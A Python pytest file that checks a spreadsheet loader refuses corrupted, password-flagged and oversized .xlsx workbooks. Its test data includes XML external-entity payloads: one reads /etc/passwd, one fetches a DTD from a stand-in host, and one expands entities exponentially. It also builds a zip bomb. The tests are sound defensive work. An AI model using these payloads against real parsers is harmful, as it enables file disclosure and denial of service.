"""Workbooks that are broken, or made to fill memory: refused before they do, with the fault named."""

import io
import zipfile
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook

from generator.load.plan import read_plan
from generator.load.sheet import fill_merged
from generator.load.workbook import Limits, WorkbookError, read_workbook
from tests.unit.plan.samples import ORGANISATION

_START = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
_END = b"</sheetData></worksheet>"
_SHEET = "xl/worksheets/sheet1.xml"


def good() -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["编号", "级别", "工作内容", "完成时限", "责任单位"])
    sheet.append(["Z-1", "支部级", "甲", "全年", "铸造"])
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


GOOD = good()


def edited(part: str, edit: Callable[[bytes], bytes] | None) -> bytes:
    """The good workbook with a part changed, or without it."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(GOOD)) as source,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            data = source.read(name)
            if name != part:
                target.writestr(name, data)
            elif edit is not None:
                target.writestr(name, edit(data))
    return stream.getvalue()


def sheet_of(xml: bytes) -> bytes:
    return edited(_SHEET, lambda _: _START + xml + _END)


def rule_of(data: bytes) -> str:
    with pytest.raises(WorkbookError) as caught:
        read_workbook(data)
    return caught.value.rule


def test_the_good_one_is_read() -> None:
    [sheet] = read_workbook(GOOD)
    assert [[cell.text for cell in row.cells.values()] for row in sheet.rows][1][0] == "Z-1"


@pytest.mark.parametrize(
    "data",
    [
        GOOD[:-200],
        b"PK\x03\x04" + bytes(50),
        edited(_SHEET, None),
        edited("xl/workbook.xml", None),
        edited("xl/styles.xml", lambda _: b"<styleSheet><numFmts>"),
        edited("xl/workbook.xml", lambda _: b"<workbook/>"),
        sheet_of(b'<row r="1"><c r="A0"><v>1</v></c></row>'),
        sheet_of(b'<row r="1"><c r="A1" t="s"><v>99</v></c></row>'),
        sheet_of(b'<row r="one"><c r="A1"><v>1</v></c></row>'),
        sheet_of(b'<row r="1"><c r="A1"><v>one</v></c></row>'),
        sheet_of(b'<row r="1"><c r="A1" t="d"><v>2026-99-99</v></c></row>'),
    ],
)
def test_what_is_broken_is_said_to_be(data: bytes) -> None:
    assert rule_of(data) == "table-unreadable"


def test_a_password_is_named() -> None:
    data = bytearray(GOOD)
    at = data.rindex(b"PK\x01\x02")
    data[at + 8] |= 1
    assert rule_of(bytes(data)) == "table-old-format"


@pytest.mark.parametrize(
    "declaration",
    [
        b'<!ENTITY a "xxxxxxxxxx"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">',
        b'<!ENTITY a SYSTEM "file:///etc/passwd">',
        b'<!ENTITY % a SYSTEM "http://huoye.example/x.dtd"> %a;',
        b"",
    ],
)
@pytest.mark.parametrize("part", [_SHEET, "xl/workbook.xml", "xl/styles.xml", "_rels/.rels"])
def test_entities_are_refused_wherever_they_stand(part: str, declaration: bytes) -> None:
    start = b'<?xml version="1.0"?><!DOCTYPE x [' + declaration + b"]>"
    assert rule_of(edited(part, lambda data: start + data[data.index(b"<", 2) :])) == (
        "table-unreadable"
    )


_LONG = b'<c t="inlineStr"><is><t>' + b"x" * 600 + b"</t></is></c>"


@pytest.mark.parametrize(
    ("limits", "xml"),
    [
        (Limits(bytes=30_000), b" " * 30_000),
        (Limits(elements=200), b'<row r="1">' + b'<c r="A1" s="1"/>' * 200 + b"</row>"),
        (Limits(depth=10), b"<a>" * 20 + b"</a>" * 20),
        (
            Limits(merged=20),
            b"</sheetData><mergeCells>"
            + b'<mergeCell ref="B1:XFD1048576"/>' * 21
            + b"</mergeCells><sheetData>",
        ),
        (Limits(text=1000), b'<row r="1">' + _LONG * 2 + b"</row>"),
        (Limits(sheets=0), b""),
    ],
)
def test_too_much_of_anything_is_refused(limits: Limits, xml: bytes) -> None:
    data = sheet_of(xml)
    assert read_workbook(data)
    with pytest.raises(WorkbookError) as caught:
        read_workbook(data, limits)
    assert caught.value.rule == "table-too-large"


def test_what_unpacks_to_gigabytes_is_refused_by_its_size_alone() -> None:
    bomb = edited(_SHEET, lambda _: bytes(100_000_000))
    assert len(bomb) < 200_000
    assert rule_of(bomb) == "table-too-large"


def test_merged_cells_without_end_fill_only_rows_that_hold_something() -> None:
    xml = b"".join(b'<row r="%d"><c r="B%d"><v>1</v></c></row>' % (n, n) for n in (1, 5, 900_000))
    merges = b'</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells><sheetData>'
    first = b'<row r="1"><c r="A1"><v>7</v></c></row>'
    [sheet] = read_workbook(sheet_of(first + xml + merges))
    filled = list(fill_merged(sheet))
    assert [row.line for row in filled] == [1, 5, 900_000]
    assert [row.cells[0].text for row in filled] == ["7", "7", "7"]


@given(st.integers(0, len(GOOD) - 1), st.integers(0, 255), st.integers(1, 40))
def test_no_change_of_its_bytes_raises_anything_else(at: int, value: int, length: int) -> None:
    data = GOOD[:at] + bytes([value]) * length + GOOD[at + length :]
    read_plan(data, "content/plans/2026.xlsx", 2026, ORGANISATION)


@given(st.text(alphabet=st.sampled_from('0123456789#?.,%E+-/"\\;[]_*@ymdhsag年月日GeneralRed ')))
def test_no_format_breaks_a_number(code: str) -> None:
    from generator.load.number_format import show

    for value in (0, 1, -1, 0.5, 46143, 46143.6, 1e14, 1e300, -1e300, 2_958_465):
        show(value, code)
        show(value, code, from_1904=True)
